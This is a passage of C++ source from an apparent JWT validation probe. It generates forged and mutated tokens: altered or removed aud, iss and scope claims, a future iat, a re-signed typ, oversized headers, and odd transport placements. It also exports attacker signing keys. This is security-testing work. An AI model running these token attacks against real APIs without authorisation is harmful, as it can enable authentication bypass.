        const QString aud = QStringLiteral("https://other-api.tokenscope-probe.invalid");
        return {claimChanged(info, setClaim("aud", aud), QStringLiteral("aud set to \"%1\"").arg(aud))};
    }
    if (info.id == QLatin1String("aud-missing")) {
        return {claimChanged(info, removePresent({QStringLiteral("aud")}), QStringLiteral("aud removed"),
                             QStringLiteral("the token has no aud"))};
    }
    if (info.id == QLatin1String("iss-wrong")) {
        const QString iss = QStringLiteral("https://issuer.tokenscope-probe.invalid");
        return {claimChanged(info, setClaim("iss", iss), QStringLiteral("iss set to \"%1\"").arg(iss))};
    }
    if (info.id == QLatin1String("iss-missing")) {
        return {claimChanged(info, removePresent({QStringLiteral("iss")}), QStringLiteral("iss removed"),
                             QStringLiteral("the token has no iss"))};
    }
    if (info.id == QLatin1String("iat-future")) {
        return {claimChanged(info, setClaim("iat", double(m_now + hour)), QStringLiteral("iat set to now + 1 h"))};
    }
    if (info.id == QLatin1String("scope-removed")) {
        return {claimChanged(info, removePresent({QStringLiteral("scope"), QStringLiteral("scp")}),
                             QStringLiteral("scope removed"), QStringLiteral("the token has no scope or scp"))};
    }
    if (info.id == QLatin1String("typ-wrong")) {
        QJsonObject h = m_token.header;
        h.insert(QStringLiteral("typ"), QStringLiteral("dpop+jwt"));
        return {resigned(info, JsonText::compact(h), m_token.payload,
                         QStringLiteral("typ set to \"dpop+jwt\", re-signed with the real key"))};
    }
    return {};
}

TokenMutation MutationContext::oversizedRow(const MutationInfo& info) const
{
    constexpr qsizetype kTarget = 16 * 1024;
    // The padding goes in the header: it is decoded first, so this is what an API's size limits meet.
    QJsonObject h = m_token.header;
    const qsizetype rest = m_token.segments[1].text.size() + m_token.segments[2].text.size() + 2;
    qsizetype padding = qMax<qsizetype>(0, (kTarget - rest) * 3 / 4 - JsonText::compact(h).size() - 32);
    QByteArray token;
    do {
        h.insert(QStringLiteral("x-tokenscope-padding"), QString(padding, QLatin1Char('A')));
        token = headerSegment(h) + '.' + m_token.segments[1].text + '.' + m_token.segments[2].text;
        ++padding;
    } while (token.size() < kTarget);
    return made(info, {}, QStringLiteral("header padded to a %1-byte token, signature kept").arg(token.size()), token);
}

QList<TokenMutation> MutationContext::transportRows(const MutationInfo& info) const
{
    if (info.id == QLatin1String("bearer-lowercase-scheme")) {
        return {made(info, {}, QStringLiteral("Authorization: bearer <token>"), m_compact,
                     TokenPlacement::LowercaseBearerScheme)};
    }
    if (info.id == QLatin1String("token-in-query")) {
        return {made(info, {}, QStringLiteral("token in the access_token query parameter"), m_compact,
                     TokenPlacement::QueryParameter)};
    }
    if (info.id == QLatin1String("token-in-body")) {
        return {made(info, {}, QStringLiteral("token as access_token in a form body"), m_compact,
                     TokenPlacement::FormBody)};
    }
    if (info.id == QLatin1String("two-authorization-headers")) {
        return {made(info, {}, QStringLiteral("two Authorization header fields"), m_compact,
                     TokenPlacement::TwoAuthorizationHeaders)};
    }
    if (info.id == QLatin1String("oversized-token")) {
        return {oversizedRow(info)};
    }
    return {};
}

} // namespace

struct TokenMutator::Private
{
    explicit Private(const Clock& clock)
        : attackers(clock)
    {
    }
    tokenmutator_detail::ProbeAttackerKeys attackers;
};

TokenMutator::TokenMutator(const Clock& clock)
    : m_clock(clock)
    , m_d(std::make_unique<Private>(clock))
{
}

TokenMutator::~TokenMutator() = default;

Result<QList<TokenMutation>> TokenMutator::mutate(const TokenMutatorInput& input, const QStringList& ids) const
{
    for (const QString& id : ids) {
        if (find(id) == nullptr) {
            return Error(ErrorCode::Usage, QStringLiteral("unknown mutation id \"%1\"").arg(id));
        }
    }
    const CompactToken token = CompactToken::parse(CompactToken::normalise(input.token));
    if (token.kind != CompactToken::Kind::Jws || !token.isStructurallyValid() || !token.headerOk) {
        return Error(ErrorCode::JwsInvalid,
                     token.error ? QStringLiteral("the probe needs a compact JWS: %1").arg(token.error->message)
                                 : QStringLiteral("the probe needs a compact JWS (header.payload.signature)"));
    }
    if (!token.b64) {
        return Error(ErrorCode::JwsInvalid, QStringLiteral("the probe needs a JWT (its payload base64url encoded)"));
    }
    const AlgorithmInfo* alg = AlgorithmTable::find(token.alg());
    if (alg == nullptr || alg->isNone()) {
        return Error(
            ErrorCode::JwsInvalid,
            QStringLiteral("the probe needs a signed token; alg \"%1\" is not a signing algorithm").arg(token.alg()));
    }
    const MutationContext context(input, token, *alg, m_d->attackers, m_clock.nowSeconds());
    QList<TokenMutation> out;
    for (const MutationInfo& info : catalogue()) {
        if (ids.isEmpty() || ids.contains(info.id)) {
            out.append(context.rows(info));
        }
    }
    return out;
}

QByteArray TokenMutator::attackerJwksJson() const
{
    QJsonArray keys;
    for (const QString& name : tokenmutator_detail::ProbeAttackerKeys::names()) {
        if (const auto* a = m_d->attackers.get(name)) {
            keys.append(a->key.publicJwk().toJson());
        }
    }
    return JsonText::compact(QJsonObject{{QStringLiteral("keys"), keys}});
}

QByteArray TokenMutator::attackerCertificatePem(const QString& alg) const
{
    const AlgorithmInfo* info = AlgorithmTable::find(alg);
    const auto* a = m_d->attackers.get(info ? attackerNameFor(*info, 0) : QStringLiteral("rsa"));
    return a ? a->certificate.pem() : QByteArray();
}
